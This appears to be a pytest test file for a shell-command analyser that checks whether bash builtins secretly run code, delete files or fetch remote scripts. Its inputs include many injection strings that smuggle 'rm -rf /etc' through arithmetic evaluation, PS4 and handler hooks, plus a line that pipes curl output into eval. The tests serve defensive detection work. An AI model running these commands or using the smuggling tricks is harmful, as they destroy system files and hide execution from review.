"""The shell's own commands: those that run code, and those whose changes are seen by what runs after them."""

from __future__ import annotations

from typing import Any

import pytest

from checkrein.core.effect import EffectKind

HOME = "/home/dev"
PROJECT = f"{HOME}/project"
CODE = "a[$(rm -rf /etc)]"


@pytest.mark.parametrize(
    "command",
    [
        f"let '{CODE}=1'",
        f"declare -i 'x={CODE}'",
        f"declare -i x; x='{CODE}'",
        f"declare '{CODE}=1'",
        f"printf -v '{CODE}' x",
        "declare -a 'b=([$(rm -rf /etc)]=1)'",
        "x='a[`rm -rf /etc`]'; let x",
        "x='`rm -rf /etc`'; echo ${x@P}",
        f"test -v '{CODE}'",
        f"[ -v '{CODE}' ]",
        f"[[ -v '{CODE}' ]]",
        f"[[ '{CODE}' -eq 0 ]]",
        f"x='{CODE}'; [[ $x -eq 0 ]]",
        f"x='{CODE}'; [[ 0 -lt x ]]",
        f"x='{CODE}'; y=x; (( y ))",
        f"x='{CODE}'; echo $((x))",
        f"x='{CODE}'; echo $(( $x ))",
        f"x='{CODE}'; echo ${{y:x}}",
        f"x='{CODE}'; y[x]=1",
        f"x='{CODE}'; echo ${{y[x]}}",
        f"for ((i='{CODE}';i<2;i++)); do :; done",
        f"read '{CODE}' <<< x",
        f"unset '{CODE}'",
        "mapfile -C 'rm -rf /etc #' -c 1 <<< x",
        "compgen -C 'rm -rf /etc' x",
        "compgen -W '$(rm -rf /etc)'",
        "complete -C 'rm -rf /etc' ls",
        "hash -p /bin/rm ls; ls -rf /etc",
    ],
)
def test_code_that_builtins_run(judge: Any, command: str) -> None:
    assert judge(command).of(EffectKind.DELETE) == ["/etc"]


@pytest.mark.parametrize(
    "command",
    [
        f"x='{CODE}'",
        f"echo '{CODE}'",
        f"printf '{CODE}'",
        f"[[ '{CODE}' == x ]]",
        f"[ '{CODE}' = x ]",
        "x=1; (( x + 1 )); echo $((x[0]))",
        "hash -r; complete -F f ls; compgen -A function; enable -n test",
        "mapfile -t a < b",
    ],
)
def test_text_that_no_builtin_runs(judge: Any, command: str) -> None:
    judged = judge(command)
    assert not judged.of(EffectKind.DELETE)
    assert not judged.blind


def test_a_builtin_from_a_library_is_unknown_code(judge: Any) -> None:
    assert judge("enable -f ./x.so f").of(EffectKind.RUN_UNKNOWN) == ["./x.so"]


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("cd src && rm a", f"{PROJECT}/src/a"),
        ("cd; rm a", f"{HOME}/a"),
        ("cd /srv; cd -; rm a", f"{PROJECT}/a"),
        ("pushd /srv; popd; rm a", f"{PROJECT}/a"),
        ("(cd /srv); rm a", f"{PROJECT}/a"),
        ("eval rm a", f"{PROJECT}/a"),
        ("export F=a; rm $F", f"{PROJECT}/a"),
        ("declare -x F=a; rm $F", f"{PROJECT}/a"),
        ("F=b; F+=c; rm $F", f"{PROJECT}/bc"),
        ("declare -n r=F; F=a; rm $r", f"{PROJECT}/a"),
        ("set -- a b; shift; rm $1", f"{PROJECT}/b"),
        ("alias x='rm a'; x", f"{PROJECT}/a"),
        ("f() { rm a; }; f", f"{PROJECT}/a"),
        ("read F <<< a; rm $F", f"{PROJECT}/a"),
        ("read X F <<< 'b a c'; rm \"$F\"", f"{PROJECT}/a c"),
        ("IFS=: read X F <<< b:a; rm $F", f"{PROJECT}/a"),
        ("mapfile -t L <<< a; rm ${L[0]}", f"{PROJECT}/a"),
        ("printf -v F %s a; rm $F", f"{PROJECT}/a"),
        ("trap 'rm a' EXIT", f"{PROJECT}/a"),
        ("exec -a x rm a", f"{PROJECT}/a"),
        ("command rm a", f"{PROJECT}/a"),
        ("builtin eval rm a", f"{PROJECT}/a"),
        ("rm() { :; }; command rm a", f"{PROJECT}/a"),
        ("time -p rm a", f"{PROJECT}/a"),
        ("noglob rm a", f"{PROJECT}/a"),
    ],
)
def test_what_runs_after_them_is_known(judge: Any, command: str, target: str) -> None:
    assert judge(command).of(EffectKind.DELETE)[-1] == target


@pytest.mark.parametrize(
    "command",
    [
        "rm() { :; }; rm a",
        "command -v rm a",
        "alias x='rm a'; unalias x; x",
        "f() { rm a; }; unset -f f; f",
        "trap - EXIT",
        "eval",
        "exec",
        "set -euo pipefail",
        "unset F",
    ],
)
def test_what_runs_nothing(judge: Any, command: str) -> None:
    assert judge(command).of(EffectKind.DELETE) == []


@pytest.mark.parametrize("command", ["eval $X", "source <(make)", 'eval "$(make)"', 'trap "$X" EXIT'])
def test_what_is_not_known_is_said_so(judge: Any, command: str) -> None:
    assert judge(command).blind


def test_a_sourced_file_changes_the_shell(judge: Any) -> None:
    scripts = {f"{PROJECT}/env.sh": "F=a\ng() { rm $F; }\n"}
    assert judge("source env.sh; g", scripts=scripts).of(EffectKind.DELETE) == [f"{PROJECT}/a"]
    assert judge(". ./env.sh && g", scripts=scripts).of(EffectKind.DELETE) == [f"{PROJECT}/a"]
    assert judge("bash env.sh; g", scripts=scripts).of(EffectKind.DELETE) == []


def test_code_from_the_network_is_named(judge: Any) -> None:
    assert judge('eval "$(curl -s https://x.example/a)"').one(EffectKind.RUN_FETCHED).target == "https://x.example/a"


@pytest.mark.parametrize(
    "command",
    [
        "PS4='$(rm /etc/x)'; set -x; true",
        "set -x; PS4='`rm /etc/x`'; true",
        "set -o xtrace; PS4='$(rm /etc/x)'; :",
        "command_not_found_handle() { rm /etc/x; }; nosuch",
        "command_not_found_handler() { rm /etc/x; }; nosuch",
    ],
)
def test_what_the_shell_runs_by_itself(judge: Any, command: str) -> None:
    assert judge(command).of(EffectKind.DELETE) == ["/etc/x"]


def test_a_prompt_that_is_not_printed_runs_nothing(judge: Any) -> None:
    assert EffectKind.DELETE not in judge("PS4='$(rm /etc/x)'; true").kinds


def test_options_are_not_taken_for_parameters(judge: Any) -> None:
    assert judge("set -- a b; set -euo pipefail; rm $1").of(EffectKind.DELETE) == ["/home/dev/project/a"]
    assert judge("set -o pipefail -- c; rm $1").of(EffectKind.DELETE) == ["/home/dev/project/c"]
